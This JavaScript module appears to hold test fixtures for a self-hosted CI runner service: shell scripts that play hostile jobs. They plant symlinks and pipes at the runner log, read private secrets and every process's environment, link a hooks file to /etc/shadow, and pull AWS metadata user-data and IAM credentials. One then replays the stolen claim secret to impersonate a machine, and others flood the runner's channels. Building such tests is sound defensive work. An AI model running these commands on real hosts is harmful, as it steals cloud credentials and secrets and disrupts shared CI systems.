// What a hostile job does on its machine. After some the runner fails, so that the script looks for the reason.
const AFTERWARDS = 'job steps\nexit 7\n';
const leaves = (commands) => `steps() { rm -rf _diag/*; ${commands}; }\n${AFTERWARDS}`;
const LOG = '_diag/Runner_9.log';

export const ATTACKS = {
  'leaves-a-pipe': leaves(`mkfifo ${LOG}`),
  'leaves-a-link': leaves(`ln -s /run/ghr/private/secret ${LOG}`),
  'leaves-a-linked-folder': leaves('rm -rf _diag; ln -s /run/ghr/private _diag'),
  'leaves-an-endless-device': leaves(`ln -s /dev/zero ${LOG}`),
  'leaves-a-sparse-file': leaves(`truncate -s 4T ${LOG}; echo "the end of it" >>${LOG}`),
  'leaves-a-growing-file': leaves(`export RUNNER_TRACKING_ID=; setsid bash -c 'yes x >${LOG}' & sleep 1`),
  // After the hook has told the end of the job, which the words of the job then hide.
  'leaves-processes': `steps() { setsid sleep 1000 & setsid bash -c 'while :; do echo idle; done >/run/ghr/hooks' & }
job steps
`,
  'claims-again': `steps() {
  local token secret url id=/latest/meta-data/instance-id
  token="$(curl -s -X PUT -H 'X-aws-ec2-metadata-token-ttl-seconds: 60' "$IMDS/latest/api/token")"
  get() { curl -s -H "X-aws-ec2-metadata-token: $token" "$IMDS$1"; }
  get /latest/user-data >user-data
  secret="$(sed -n "s/.*claim_secret='\\([^']*\\)'.*/\\1/p" user-data)"
  url="$(sed -n "s/.*machine_url='\\([^']*\\)'.*/\\1/p" user-data)"
  body="{\\"instance_id\\":\\"$(get $id)\\",\\"secret\\":\\"$secret\\","
  body+="\\"nonce\\":\\"of-the-job\\",\\"events\\":[{\\"kind\\":\\"busy\\"}]}"
  for path in claim report; do
    curl -s -w ' %{http_code}\\n' -H 'Content-Type: application/json' \\
      --data "$body" "$url/$path"
  done | report claimed
  get /latest/meta-data/iam/security-credentials/ | report role
}
job steps
`,
  'looks-for-secrets': `steps() {
  { cat /run/ghr/private/secret /run/ghr/private/*; ls -R /run/ghr; cat /run/ghr/hooks & sleep 1
    cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline
    ls -l /run/ghr/; rm -f /run/ghr/hooks; ln -sf /etc/shadow /run/ghr/hooks
    echo "pipe: $([ -p /run/ghr/hooks ] && echo still)"; } 2>&1 | report found
}
job steps
`,
  floods: `steps() {
  local until=$((SECONDS + 8))
  while [ "$SECONDS" -lt "$until" ]; do printf 'busy\\nidle\\nmark:1\\n%070d\\n' 1; done >/run/ghr/hooks
  head -c 3000000 /dev/urandom | base64 -w 0
  yes 'a line of the job' | head -n 100000
}
job steps
`,
};
